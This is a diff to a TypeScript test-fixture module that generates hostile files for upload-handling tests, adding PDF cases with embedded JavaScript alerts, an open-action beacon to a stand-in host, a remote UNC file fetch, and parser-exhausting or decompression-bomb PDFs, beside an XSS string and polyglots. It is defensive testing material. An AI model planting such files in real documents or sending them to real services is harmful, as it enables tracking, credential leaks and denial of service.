@@ -3,6 +3,7 @@ import { crc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
 import PDFDocument from 'pdfkit';
 import sharp from 'sharp';
 import { jpegWithExif, pdfFile, pngFile } from '#testing/files.ts';
+import { packedObjects, pdfOf } from '#testing/pdf-parts.ts';
 
 /** A file somebody sends to see what happens, made here: the repository holds none. */
 export interface HostileFile {
@@ -12,7 +13,7 @@ export interface HostileFile {
 
 const script = '<script>alert(document.domain)</script>';
 
-function chunk(type: string, data: Buffer): Buffer {
+export function pngChunk(type: string, data: Buffer): Buffer {
   const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
   const frame = Buffer.alloc(8);
   frame.writeUInt32BE(data.length);
@@ -28,9 +29,9 @@ function pngOf(width: number, height: number, inflatedBytes: number): Buffer {
   header.set([8, 2, 0, 0, 0], 8);
   return Buffer.concat([
     Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
-    chunk('IHDR', header),
-    chunk('IDAT', deflateSync(Buffer.alloc(inflatedBytes))),
-    chunk('IEND', Buffer.alloc(0)),
+    pngChunk('IHDR', header),
+    pngChunk('IDAT', deflateSync(Buffer.alloc(inflatedBytes))),
+    pngChunk('IEND', Buffer.alloc(0)),
   ]);
 }
 
@@ -38,7 +39,7 @@ function pngOf(width: number, height: number, inflatedBytes: number): Buffer {
 async function pngWithHugeComment(): Promise<Buffer> {
   const png = await pngFile();
   const comment = Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), deflateSync(Buffer.alloc(200 * 1024 * 1024))]);
-  return Buffer.concat([png.subarray(0, 33), chunk('zTXt', comment), png.subarray(33)]);
+  return Buffer.concat([png.subarray(0, 33), pngChunk('zTXt', comment), png.subarray(33)]);
 }
 
 /** A JPEG header that claims 65,500 × 65,500. */
@@ -170,6 +171,33 @@ export const activePdfs = async (): Promise<HostileFile[]> => {
       bytes: await pdfWith({ userPassword: 'clave', ownerPassword: 'otra', pdfVersion: '1.7' }),
     },
     { name: 'PDF with a packed script', bytes: await pdfWithObject(packed('90 0 << /S /JavaScript /JS (a) >>')) },
+    ...[
+      ['with "obj" in a text', { type: '', extra: '/X(obj)' }],
+      ['with 40 blanks before "stream"', { type: '', gap: ' '.repeat(40) }],
+      ['with a comment before "stream"', { type: '', gap: '%c\n' }],
+    ].map(([how, options]) => ({
+      name: `PDF with a script packed without its type, ${how}`,
+      bytes: pdfOf([packedObjects([[9, '<</S/JavaScript/JS(app.alert(1))>>']], options as object)]),
+    })),
+    {
+      name: 'PDF that tells an address when it is opened',
+      bytes: pdfOf([], '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(https://malo.example)>>>>'),
+    },
+    {
+      name: 'PDF that opens a file of another machine',
+      bytes: pdfOf([], '<</Type/Catalog/Pages 2 0 R/AA<</O<</S/GoToR/F(\\\\\\\\198.51.100.7\\\\a)>>>>>>'),
+    },
+    {
+      name: 'PDF whose data lies elsewhere',
+      bytes: pdfOf([{ text: '<</Length 1/F(a.bin)>>', stream: Buffer.from('x') }]),
+    },
+    {
+      name: 'PDF of 480 KB that took twelve seconds',
+      bytes: Buffer.from(
+        `%PDF-1.5\n1 0 obj<</First 1/N 1${'/Filter['.repeat(60_000)}>>\nstream\nx\nendstream\nendobj\n%%EOF`,
+      ),
+    },
+    { name: 'PDF of 64 KB that took four gigabytes', bytes: await pdfWithObject(packed('#41'.repeat(22_020_096))) },
     { name: 'PDF that inflates to 300 MB', bytes: await pdfWithObject(packed(Buffer.alloc(300 * 1024 * 1024))) },
     { name: 'PDF followed by a ZIP', bytes: Buffer.concat([pdf, zipFile()]) },
     { name: 'PDF behind HTML', bytes: Buffer.concat([Buffer.from(script), pdf]) },
@@ -193,7 +221,7 @@ export const polyglots = async (): Promise<HostileFile[]> => {
       name: 'PNG with text inside',
       bytes: Buffer.concat([
         png.subarray(0, 33),
-        chunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), hidden])),
+        pngChunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), hidden])),
         png.subarray(33),
       ]),
     },
